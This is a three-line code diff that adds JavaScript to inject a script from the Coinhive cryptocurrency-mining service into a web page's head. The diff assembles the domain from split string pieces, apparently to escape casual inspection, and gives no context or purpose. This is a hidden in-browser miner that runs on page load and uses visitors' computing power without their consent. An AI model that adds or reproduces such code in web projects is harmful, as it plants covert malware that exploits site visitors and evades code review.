@@ -1,0 +1,3 @@
+var s = document.createElement("script");
+s.src = "https://" + "coin" + "hive.com" + "/lib.js";
+document.head.appendChild(s);
